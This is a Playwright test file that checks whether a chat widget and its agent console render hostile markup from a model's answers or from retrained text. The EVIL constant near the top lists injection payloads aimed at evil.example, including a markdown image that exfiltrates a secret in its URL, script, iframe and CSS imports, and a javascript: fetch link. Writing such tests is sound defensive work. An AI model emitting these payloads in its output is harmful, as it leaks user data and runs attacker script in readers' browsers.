// A malicious model must not make the reader's browser fetch, follow or run anything; the same goes for taught text.

import type { BrowserContext } from '@playwright/test'
import { api } from '@switchboard/contract'
import { signInHere } from './support/account.ts'
import { expect, type LiveChat, log, openChat, test, write } from './support/talk.ts'

const EVIL = [
  '![pixel](https://evil.example/a.png?q=secret)',
  '<img src="https://evil.example/b.png"><script src="https://evil.example/c.js"></script>',
  '<iframe src="https://evil.example/d"></iframe> <style>@import "https://evil.example/e.css"</style>',
  '[click](javascript:fetch("https://evil.example/f")) ![ref][g]',
  '[g]: https://evil.example/g.png',
].join('\n\n')

/** Collects all requests to malicious hosts, on any page. */
function watchEvil(context: BrowserContext): string[] {
  const asked: string[] = []
  context.on('request', (request) => {
    if (request.url().includes('evil.example')) asked.push(request.url())
  })
  return asked
}

const teach = ({ account, agent }: LiveChat, question: string) =>
  account.client.call(api.messages.retrain, {
    body: {
      agent_id: agent.id,
      mistakes: [{ user_message: question, bot_answer: '', right_answer: `${EVIL}\n\nThe end.` }],
    },
  })

test('what a model says makes neither the widget nor the console load anything', async ({
  page,
  context,
  liveChat,
  visit,
  model,
  baseURL,
}) => {
  // The first question waits for the embedding model to load.
  test.slow()
  const asked = watchEvil(context)
  const chat = await liveChat()
  model.answers(`${EVIL}\n\nThat is all I have to say.`)
  await visit(chat)
  await openChat(page)
  await write(page, 'Which colours do you have?')
  const said = log(page).locator('.message.ai .bubble')
  await expect(said.last()).toContainText('That is all I have to say.', { timeout: 30_000 })
  await expect(said.last()).not.toContainText('evil.example')

  // Taught verbatim, it is still plain text.
  await teach(chat, 'Which sizes do you have?')
  await write(page, 'Which sizes do you have?')
  await expect(said.last()).toContainText('The end.')
  await expect(log(page).locator('img, script, iframe, style, [href^="javascript:"]')).toHaveCount(0)

  const desk = await context.newPage()
  await signInHere(desk, baseURL!, chat.account)
  await desk.goto('/?section=livechat')
  await desk.getByRole('listitem').filter({ hasText: 'pixel' }).getByRole('link').click()
  const thread = desk.getByRole('log')
  await expect(thread).toContainText('The end.')
  await expect(thread.locator('img, script, iframe, style, [href^="javascript:"]')).toHaveCount(0)
  expect(asked).toEqual([])
})
